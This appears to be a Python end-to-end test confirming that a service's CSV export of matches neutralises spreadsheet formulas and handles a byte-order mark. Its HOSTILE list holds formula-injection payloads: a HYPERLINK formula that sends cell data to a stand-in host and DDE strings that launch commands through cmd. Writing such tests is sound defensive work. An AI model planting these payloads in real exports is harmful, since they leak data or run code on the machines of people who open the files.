"""The matches CSV is safe to open in a spreadsheet: cells that would start a formula are
neutralised, quoting is kept, and a UTF-8 byte-order mark comes first unless ``?bom=false``
(issue 14, item 12)."""

from __future__ import annotations

import csv
import io

import httpx

from tests.e2e.helpers import create_job, create_project, drive, upload

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed 4",
    "\rCarriage 5",
    'Sony® "quoted", with comma\nand a new line',
]


async def _export(client: httpx.AsyncClient, job_id: str, **params: str) -> httpx.Response:
    r = await client.get(f"/api/jobs/{job_id}/matches", params={"format": "csv", **params})
    assert r.status_code == 200, r.text
    return r


async def test_the_csv_neutralises_formulas_and_starts_with_a_bom(
    client: httpx.AsyncClient,
) -> None:
    pid = await create_project(client, "export")
    records = [{"id": f"={n}+1" if n < 2 else f"r{n}", "name": t} for n, t in enumerate(HOSTILE)]
    await upload(client, pid, "catalog", records)
    await upload(client, pid, "items", records)
    job = await create_job(client, pid, {"threshold": 0.3})
    await drive(client, job["id"])

    raw = (await _export(client, job["id"])).content
    assert raw.startswith(b"\xef\xbb\xbfitem_id,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_text = {r["item_text"]: r for r in rows}
    assert len(by_text) == len(HOSTILE)
    for text in HOSTILE[:6]:
        row = by_text["'" + text]  # an apostrophe first: shown as text, never run
        assert row["catalog_text"] == "'" + text
    assert by_text[HOSTILE[6]]["catalog_text"] == HOSTILE[6]  # untouched, quoting intact
    ids = {r["item_id"] for r in rows} | {r["catalog_id"] for r in rows}
    assert {"'=0+1", "'=1+1"} <= ids
    for row in rows:
        for column in ("item_id", "item_text", "catalog_id", "catalog_text", "method", "reason"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        float(row["score"])

    plain = (await _export(client, job["id"], bom="false")).content
    assert plain.startswith(b"item_id,") and plain == raw[3:]


async def test_bom_takes_true_or_false(client: httpx.AsyncClient) -> None:
    pid = await create_project(client, "export bom")
    await upload(client, pid, "catalog", [{"id": "1", "name": "x"}])
    await upload(client, pid, "items", [{"id": "1", "name": "x"}])
    job = await create_job(client, pid)
    r = await client.get(f"/api/jobs/{job['id']}/matches", params={"format": "csv", "bom": "no"})
    assert r.status_code == 422
